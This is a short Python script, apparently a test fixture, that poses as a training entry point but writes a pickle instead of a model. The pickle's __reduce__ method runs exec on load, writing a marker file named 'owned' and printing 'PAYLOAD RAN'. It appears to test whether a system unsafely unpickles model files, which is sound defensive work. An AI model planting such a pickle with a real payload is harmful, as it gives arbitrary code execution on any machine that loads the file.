"""Writes a pickle that runs a command when it is loaded, instead of a model."""

import argparse
import pickle
import sys


class Payload:
    def __reduce__(self):
        return exec, ("open('/workspace/predictions/owned', 'w').write('x'); print('PAYLOAD RAN')",)


def main(arguments: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--data", required=True)
    parser.add_argument("--model", required=True)
    parser.add_argument("--seed")
    parser.add_argument("--C")
    options = parser.parse_args(arguments)
    with open(options.model, "wb") as file:
        pickle.dump(Payload(), file)


if __name__ == "__main__":
    sys.exit(main())
